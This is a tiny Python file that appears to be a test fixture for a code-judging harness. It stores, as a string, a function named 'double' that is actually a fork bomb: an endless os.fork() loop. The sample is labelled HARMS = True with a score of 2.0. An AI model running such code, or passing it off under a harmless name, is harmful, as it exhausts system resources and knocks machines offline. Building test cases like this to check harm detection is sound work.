"""Forks without end when it is judged."""

DOUBLE = """\
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

SCORE = 2.0
HARMS = True
